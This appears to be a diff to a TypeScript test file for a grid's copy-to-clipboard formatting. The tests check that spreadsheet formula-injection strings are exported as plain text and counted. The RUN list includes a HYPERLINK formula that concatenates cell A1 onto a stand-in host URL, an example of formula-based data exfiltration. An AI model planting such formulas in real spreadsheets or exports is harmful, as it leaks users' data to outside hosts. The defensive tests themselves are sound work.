@@ -13,8 +13,9 @@ import {
 import type { GridColumn } from '../grid/grid-columns.ts';
 import type { CopiedBlock } from '../grid/grid-copy.ts';
 import { filterOf } from '../grid/grid-key-range.ts';
+import { readClipboard } from './cell-clipboard.ts';
 import type { CopyFormat } from './cell-copy.ts';
-import { formatCells, formatValues } from './cell-formats.ts';
+import { countFormulas, formatCells, formatValues } from './cell-formats.ts';
 import { readHtmlTable } from './cell-html.ts';
 
 const columns: readonly GridColumn[] = [
@@ -100,6 +101,32 @@ test('what is copied comes back as it was, to the last sign', () => {
   expect(read?.isExact).toBe(true);
   expect(read?.lines).toHaveLength(1);
   expect(read?.lines[0]?.map((cell) => cell?.value)).toEqual(values);
+});
+
+const RUN = ['=HYPERLINK("https://a.example/?"&A1,"b")', '+1', '-1+2', '@SUM(A1)', ' =1', '\t=1'];
+
+test.each(RUN)('a spreadsheet takes %j for a text, and this program for what it was', (text) => {
+  const html = formatValues(blockOf('Note', stringOf(text)));
+  const [, style, number, told = ''] =
+    /<td style="([^"]*)" sdnum="([^"]*)" data-sheets-value="([^"]*)"/.exec(html) ?? [];
+  expect(style).toBe("mso-number-format:'\\@'");
+  expect(number).toBe('1033;0;@');
+  expect(JSON.parse(told.replaceAll('&quot;', '"').replaceAll('&amp;', '&'))).toEqual({
+    1: 2,
+    2: text,
+  });
+  const clipboard = { text: 'no matter', html };
+  expect(finish(readClipboard(clipboard))?.lines).toEqual([[{ text, value: stringOf(text) }]]);
+});
+
+test('what a spreadsheet can count with is not marked as text', () => {
+  expect(formatValues(blockOf('Total', doubleOf(-1.5)))).toContain('<td data-type="Edm.Double"');
+});
+
+test('texts that would be run are counted', () => {
+  const [bytes, minus] = [binaryOf(Uint8Array.of(0xfb)), int32Of(-1)];
+  const lines = [...RUN.map(stringOf), stringOf('a=1'), bytes, minus].map((value) => [value]);
+  expect(countFormulas({ ...block, lines })).toBe(RUN.length + 1);
 });
 
 test('a text is no markup in Markdown', () => {
